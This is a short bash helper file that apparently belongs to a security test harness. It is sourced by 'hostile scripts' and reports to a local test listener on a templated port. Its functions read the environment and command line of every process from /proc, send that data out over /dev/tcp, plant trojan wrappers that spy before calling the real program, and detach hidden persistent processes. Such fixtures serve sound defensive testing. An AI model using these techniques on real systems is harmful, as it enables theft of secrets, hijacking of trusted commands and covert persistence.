#!/bin/bash
# Sourced by every hostile script: ways to see, to tell the test, to plant and to stay. Nothing here is found by PATH.
here=/workspace/@NAME@

# Tells the test what comes on stdin, under this label.
tell() {
    { echo "@NAME@ $1" && /usr/bin/head -c 2000000; } >/dev/tcp/127.0.0.1/@PORT@
}

# Tells the environment and the command line of everything that runs.
look() {
    /usr/bin/cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | /usr/bin/tr '\0' '\n' | tell "$1"
}

# Puts programs of these names into a folder: each looks, and then does as the real one.
plant() {
    local folder=$1 name
    shift
    /usr/bin/mkdir -p "$folder"
    for name; do
        /usr/bin/rm -rf "${folder:?}/$name"
        {
            echo '#!/bin/bash'
            echo ". $here/prelude.sh; look 'planted-here $name'"
            echo "exec /usr/bin/$name \"\$@\""
        } >"$folder/$name"
        /usr/bin/chmod 755 "$folder/$name"
    done
}

# A command line that looks, for settings that name one.
spy() {
    echo "/bin/bash -c '. $here/prelude.sh; look planted-here-$1'"
}

# Stays beyond the end of the command: in no session, with no mark, no parent and no environment.
linger() {
    /usr/bin/env -i /usr/bin/setsid --fork /bin/bash -c ". $here/prelude.sh; $1" </dev/null >/dev/null 2>&1
}
